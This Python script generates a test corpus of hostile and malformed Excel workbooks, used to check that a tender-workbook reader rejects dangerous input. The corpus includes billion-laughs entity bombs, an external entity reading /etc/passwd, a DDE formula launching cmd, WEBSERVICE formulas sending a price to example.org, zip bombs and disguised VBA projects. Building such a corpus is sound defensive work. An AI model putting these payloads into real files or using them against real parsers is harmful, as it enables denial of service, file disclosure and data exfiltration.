"""Writes the hostile and broken workbooks of tests/workbooks/hostile/ (docs/security.md: hostile workbooks).

Run from the repository root: .venv/bin/python tests/workbooks/make_hostile_corpus.py
Every file is small (the zip bombs stay under ~200 KB compressed) and is made from the sample
tender's template (tests/workbooks/sample.py); regenerate after changing that tender or the layout.
test_hostile_corpus.py lists the message each file must get.
"""
from __future__ import annotations

import random
import re
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

from openpyxl import Workbook, load_workbook

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:  # run as a script from anywhere
    sys.path.insert(0, str(ROOT))

from tests.workbooks import sample  # noqa: E402
from workbooks import build_template, fill_workbook  # noqa: E402

HOSTILE = Path(__file__).resolve().parent / "hostile"
SUPPLY_PART = "xl/worksheets/sheet5.xml"  # openpyxl writes the sheets in layout.SHEETS order
COMPANY_PART = "xl/worksheets/sheet2.xml"
PRICE_PART = "xl/worksheets/sheet3.xml"
INSTRUCTIONS_PART = "xl/worksheets/sheet1.xml"
DIMENSION = b'<dimension ref="A1:G513"/>'  # what openpyxl writes for the filled sample's Supply chain sheet
_DATE = (2026, 1, 1, 0, 0, 0)
_CORE_TIMES = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                     for n in range(1, 9)) + b"]>\n")


def rezip(data: bytes, replace: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None,
          compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A copy of an archive with parts replaced, removed (None) or added, with fixed times (entries, document)."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(BytesIO(data))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as target:
        for name in source.namelist():
            content = replace[name] if name in replace else source.read(name)
            if name == "docProps/core.xml" and content is not None:  # fixed times: regenerating changes nothing
                content = _CORE_TIMES.sub(rb"\g<1>2026-01-01T00:00:00Z\g<2>", content)
            if content is not None:
                target.writestr(zipfile.ZipInfo(name, _DATE), content, compression)
        for name, content in add.items():
            target.writestr(zipfile.ZipInfo(name, _DATE), content, compression)
    return buffer.getvalue()


def patch(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The archive with one part's bytes changed."""
    return rezip(data, {part: change(zipfile.ZipFile(BytesIO(data)).read(part))})


def swap(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    """A change replacing the first occurrence of old, failing loudly if old is absent (so each file is what
    its name says)."""
    def change(xml: bytes) -> bytes:
        if old not in xml:
            raise ValueError(f"{old!r} not found")
        return xml.replace(old, new, 1)
    return change


def with_doctype(doctype: bytes, change: Callable[[bytes], bytes] = lambda xml: xml) -> Callable[[bytes], bytes]:
    """A change putting a document type declaration before the root element (after any XML declaration)."""
    def prepend(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        return doctype + change(body)
    return prepend


def with_rows(sheet_xml: bytes, rows: bytes) -> bytes:
    """A sheet whose data is replaced by the given <row> elements."""
    head, _, rest = sheet_xml.partition(b"<sheetData>")
    _, _, tail = rest.partition(b"</sheetData>")
    return head + b"<sheetData>" + rows + b"</sheetData>" + tail


def edited(data: bytes, change: Callable[[object], None]) -> bytes:
    """The workbook edited through openpyxl, as a bidder's tool would save it."""
    workbook = load_workbook(BytesIO(data))
    change(workbook)
    buffer = BytesIO()
    workbook.save(buffer)
    return rezip(buffer.getvalue())


def lying_declared_size(data: bytes, part: str) -> bytes:
    """The central directory declares the part 10 bytes long: the inflated data no longer matches its CRC."""
    name = part.encode()
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    return data[:at + 24] + struct.pack("<I", 10) + data[at + 28:]


def unsupported_zip_version(data: bytes) -> bytes:
    """The first central-directory entry asks for zip version 6.4 to extract (zipfile raises NotImplementedError)."""
    at = data.index(b"PK\x01\x02")
    return data[:at + 6] + struct.pack("<H", 64) + data[at + 8:]


def declared_small(data: bytes, part: str, declared: int = 50_000) -> bytes:
    """Both zip headers of a part declare `declared` bytes, whatever it inflates to (its CRC is left as is)."""
    name = part.encode()
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    local = struct.unpack("<I", data[central + 42:central + 46])[0]
    size = struct.pack("<I", declared)
    data = data[:local + 22] + size + data[local + 26:]
    return data[:central + 24] + size + data[central + 28:]


def spaced_sheet(sheet_xml: bytes, megabytes: int) -> bytes:
    """The sheet with `megabytes` MB of blanks before its data: well-formed, and about 1,000 times its packed size."""
    return sheet_xml.replace(b"<sheetData>", b" " * (megabytes * 1024 * 1024) + b"<sheetData>", 1)


def long_string_cells(sheet_xml: bytes, rows: int) -> bytes:
    """The Supply chain rows from 14 on, each naming its supplier by shared string 0."""
    return with_rows(sheet_xml, b"".join(
        b'<row r="%d"><c r="F%d" t="s"><v>0</v></c></row>' % (row, row) for row in range(14, 14 + rows)))


def shared_strings(*texts: bytes) -> bytes:
    """A shared-strings part holding the given texts."""
    return (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + b"".join(b"<si><t>%s</t></si>" % text for text in texts) + b"</sst>")


def external_link(data: bytes) -> bytes:
    """A link to another workbook, as Excel saves one: a part, its relationship and an externalReference."""
    archive = zipfile.ZipFile(BytesIO(data))
    rels = archive.read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                             b"</Relationships>")
    workbook = archive.read("xl/workbook.xml").replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
                      b'officeDocument/2006/relationships" r:id="rIdX1"/></externalReferences>')
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
            b'<sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>')
    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'externalLinkPath" Target="file:///C:/bids/prices.xlsx" TargetMode="External"/></Relationships>')
    return rezip(data, {"xl/_rels/workbook.xml.rels": rels, "xl/workbook.xml": workbook},
                 {"xl/externalLinks/externalLink1.xml": link,
                  "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def varied(text: bytes, count: int) -> list[bytes]:
    """`count` copies of text, every 40th a random number instead, so the part stays below the ratio limit."""
    rnd = random.Random(1)
    return [b"%d" % rnd.randint(0, 99_999) if n % 40 == 0 else text for n in range(count)]


def million_rows() -> bytes:
    """One million one-cell rows, varied just enough to stay below the compression-ratio limit."""
    rnd = random.Random(1)
    return b"".join(b"<row><c><v>%d</v></c></row>" % (rnd.randint(0, 9999) if i % 40 == 0 else 1)
                    for i in range(1_000_000))


def wrong_types(data: bytes) -> bytes:
    """A wrong type in every column of every input sheet."""
    def change(workbook) -> None:
        company, price, answers, supply = (workbook[name] for name in ("Company", "Price", "Answers",
                                                                         "Supply chain"))
        company["B5"], company["B7"], company["B9"] = "Atlantis", 42, "not an email"
        price["B4"] = "cheap"
        answers["C4"], answers["C5"], answers["C8"] = "maybe", "ten", "20y"
        answers["C6"] = -3
        for column, value in zip("ABCDEFG", (42, "melting", "Narnia", "lots", -5, True, 3.5), strict=True):
            supply[f"{column}14"] = value
        supply["D15"] = 120
    return edited(data, change)


def corpus() -> dict[str, bytes]:
    """File name -> bytes of every hostile or broken workbook."""
    tender = sample.tender()
    template = build_template(tender, sample.INFO)
    filled = rezip(fill_workbook(template, sample.filling()))
    other_tender = Workbook()
    other_tender.active["A1"] = "just a spreadsheet"
    plain = BytesIO()
    other_tender.save(plain)
    supply = zipfile.ZipFile(BytesIO(filled)).read(SUPPLY_PART)
    return {
        "empty.xlsx": b"",
        "plain_text.xlsx": b"material,stage,country,share\nNd,processing,CN,100\n",
        "renamed_exe.xlsx": b"MZ\x90\x00\x03" + bytes(200),
        "renamed_pdf.xlsx": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
        "renamed_docx.xlsx": rezip(filled, {name: None for name in zipfile.ZipFile(BytesIO(filled)).namelist()},
                                   {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}),
        "renamed_ods.xlsx": rezip(filled, {name: None for name in zipfile.ZipFile(BytesIO(filled)).namelist()},
                                  {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                   "content.xml": b"<office:document-content/>"}),
        "old_xls_or_encrypted.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "truncated.xlsx": filled[: len(filled) // 2],
        "macro_vba_project.xlsx": rezip(filled, add={"xl/vbaProject.bin": b"\x00Attribute VB_Name"}),
        "macro_content_type.xlsx": patch(filled, "[Content_Types].xml", swap(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "zip_bomb_total_size.xlsx": rezip(filled, add={"xl/media/padding.bin": bytes(150 * 1024 * 1024)}),
        "zip_bomb_ratio.xlsx": rezip(filled, {SUPPLY_PART: with_rows(supply, b" " * (40 * 1024 * 1024))}),
        "too_many_parts.xlsx": rezip(filled, add={f"customXml/item{n}.xml": b"<a/>" for n in range(600)}),
        "duplicate_parts.xlsx": _duplicate(filled, SUPPLY_PART),
        "lying_declared_size.xlsx": lying_declared_size(filled, SUPPLY_PART),
        "unsupported_zip_version.xlsx": unsupported_zip_version(filled),
        "entities_in_sheet.xlsx": patch(filled, SUPPLY_PART, with_doctype(LAUGHS, swap(b"<t>", b"<t>&lol8;"))),
        "entities_in_workbook.xlsx": patch(filled, "xl/workbook.xml", with_doctype(LAUGHS)),
        "entities_in_shared_strings.xlsx": _shared_strings(filled, LAUGHS + b'<sst xmlns="http://schemas.'
                                                           b'openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                                                           b"&lol8;</t></si></sst>"),
        "external_entity.xlsx": patch(filled, COMPANY_PART, with_doctype(
            b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            swap(b"<t>Magnetics Europe SE</t>", b"<t>&x;</t>"))),
        "million_rows.xlsx": rezip(filled, {SUPPLY_PART: with_rows(supply, million_rows())}),
        "lying_dimension.xlsx": rezip(filled, {SUPPLY_PART: swap(DIMENSION, b'<dimension ref="A1:A1"/>')(
            with_rows(supply, b"".join(b'<row r="%d"><c r="D%d"><v>1</v></c></row>' % (n, n)
                                       for n in range(14, 25_014))))}),
        "far_away_cell.xlsx": patch(filled, SUPPLY_PART, lambda xml: swap(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')(
            swap(DIMENSION, b'<dimension ref="A1:XFD1048576"/>')(xml))),
        "cell_beyond_columns.xlsx": patch(filled, SUPPLY_PART, swap(
            b'<c r="G14"', b'<c r="AA14" t="inlineStr"><is><t>note</t></is></c><c r="G14"')),
        "bad_cell_reference.xlsx": patch(filled, SUPPLY_PART, swap(b'r="D14"', b'r="D0"')),
        "malformed_xml.xlsx": patch(filled, SUPPLY_PART, swap(b"</sheetData>", b"</sheetDat>")),
        "missing_part.xlsx": rezip(filled, {"xl/_rels/workbook.xml.rels": None}),
        "duplicate_sheet_names.xlsx": patch(filled, "xl/workbook.xml", swap(
            b"</sheets>", b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                          b'name="Supply chain" sheetId="8" r:id="rId2"/></sheets>')),
        "formula_without_value.xlsx": edited(filled, lambda workbook: workbook["Supply chain"].__setitem__(
            "D14", "=50+10")),
        "lying_cached_value.xlsx": patch(filled, SUPPLY_PART, lambda xml: _cell_xml(
            xml, b"D15", b'<c r="D15"><f>SUM(D14:D14)</f><v>999</v></c>')),
        "wrong_types.xlsx": wrong_types(filled),
        "lying_zip_size_bomb.xlsx": declared_small(rezip(filled, {SUPPLY_PART: spaced_sheet(supply, 200)}),
                                                   SUPPLY_PART),
        "lying_zip_size_small_sheet.xlsx": declared_small(rezip(filled, {SUPPLY_PART: spaced_sheet(supply, 2)}),
                                                          SUPPLY_PART, len(supply)),
        "huge_shared_string.xlsx": _shared_strings(rezip(filled, {SUPPLY_PART: long_string_cells(supply, 2_000)}),
                                                   shared_strings(b"x" * 1_000_000)),
        "long_string_many_cells.xlsx": _shared_strings(
            rezip(filled, {SUPPLY_PART: long_string_cells(supply, 20_000)}), shared_strings(b"y" * 30_000)),
        "too_many_shared_strings.xlsx": _shared_strings(filled, shared_strings(*varied(b"a", 200_001))),
        "too_many_cell_formats.xlsx": patch(filled, "xl/styles.xml", swap(b"</cellXfs>", b"".join(
            b'<xf numFmtId="0" fontId="0" fillId="0" borderId="%s"/>' % border for border in varied(b"0", 70_000))
            + b"</cellXfs>")),
        "formula_with_false_cached_price.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
            xml, b"B4", b'<c r="B4"><f>7150000*2</f><v>1000</v></c>')),
        "formula_in_company_name.xlsx": patch(filled, COMPANY_PART, lambda xml: _cell_xml(
            xml, b"B4", b'<c r="B4" t="str"><f>"Magnetics"&amp;" Europe SE"</f><v>Magnetics Europe SE</v></c>')),
        "external_link.xlsx": external_link(filled),
        "external_link_formula.xlsx": patch(external_link(filled), PRICE_PART, lambda xml: _cell_xml(
            xml, b"C4", b'<c r="C4"><f>[1]Prices!A1</f><v>5</v></c>')),
        "renamed_vba_project.xlsx": rezip(filled, add={"xl/media/image7.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                                                                          + bytes(2_000)}),
        "vba_content_type_renamed.xlsx": _vba_by_content_type(filled),
        "webservice_formula.xlsx": patch(filled, INSTRUCTIONS_PART, swap(  # a sheet the reader does not read
            b"</sheetData>", b'<row r="999"><c r="K999" t="str"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;'
                             b"Price!B4)</f><v></v></c></row></sheetData>")),
        "part_named_twice.xlsx": patch(filled, "xl/_rels/workbook.xml.rels", swap(b"</Relationships>", (
            b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'sharedStrings" Target="worksheets/sheet5.xml"/></Relationships>'))),
        "webservice_in_conditional_format.xlsx": patch(filled, PRICE_PART, swap(b"<dataValidations", (
            b'<conditionalFormatting sqref="B4"><cfRule type="expression" priority="1"><formula>'
            b'LEN(WEBSERVICE("https://example.org/?p="&amp;B4))&gt;0</formula></cfRule></conditionalFormatting>'
            b"<dataValidations"))),
        "dde_formula.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
            xml, b"C4", b"<c r=\"C4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")),
        "wrong_tender.xlsx": _metadata(filled, 1, "RB-2025-OTHER-07"),
        "outdated_template.xlsx": _metadata(filled, 3, "0" * 64),
        "not_a_resbid_workbook.xlsx": rezip(plain.getvalue()),
        "missing_sheet.xlsx": edited(filled, lambda workbook: workbook.remove(workbook["Answers"])),
    }


def _duplicate(data: bytes, part: str) -> bytes:
    """The archive with a second part of the same name (zipfile warns; the reader must refuse)."""
    buffer = BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(zipfile.ZipInfo(part, _DATE), b"<worksheet/>")
    return buffer.getvalue()


def _shared_strings(data: bytes, xml: bytes) -> bytes:
    """The archive with a shared-strings part (openpyxl writes none), its relationship and content type."""
    archive = zipfile.ZipFile(BytesIO(data))
    rels = archive.read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    return rezip(data, {"xl/_rels/workbook.xml.rels": rels}, {"xl/sharedStrings.xml": xml})


def _vba_by_content_type(data: bytes) -> bytes:
    """A macro project under an innocent name, declared as one by its content type."""
    archive = zipfile.ZipFile(BytesIO(data))
    types = archive.read("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/printerSettings1.dat" '
                     b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return rezip(data, {"[Content_Types].xml": types}, {"xl/printerSettings1.dat": b"Attribute VB_Name = 1"})


def _cell_xml(xml: bytes, ref: bytes, replacement: bytes) -> bytes:
    """The sheet with one whole <c> element replaced."""
    start = xml.index(b'<c r="' + ref + b'"')
    end = xml.index(b"</c>", start) + len(b"</c>")
    return xml[:start] + replacement + xml[end:]


def _metadata(data: bytes, row: int, value: str) -> bytes:
    """The workbook with one Metadata value changed (the sheet is very hidden, not out of reach)."""
    def change(workbook) -> None:
        workbook["Metadata"][f"B{row}"] = value
    return edited(data, change)


def main() -> None:
    """Writes the corpus, replacing the folder's .xlsx files."""
    HOSTILE.mkdir(exist_ok=True)
    for old in HOSTILE.glob("*.xlsx"):
        old.unlink()
    for name, data in corpus().items():
        (HOSTILE / name).write_bytes(data)
        print(f"{name:36} {len(data):>9,} bytes")


if __name__ == "__main__":
    main()
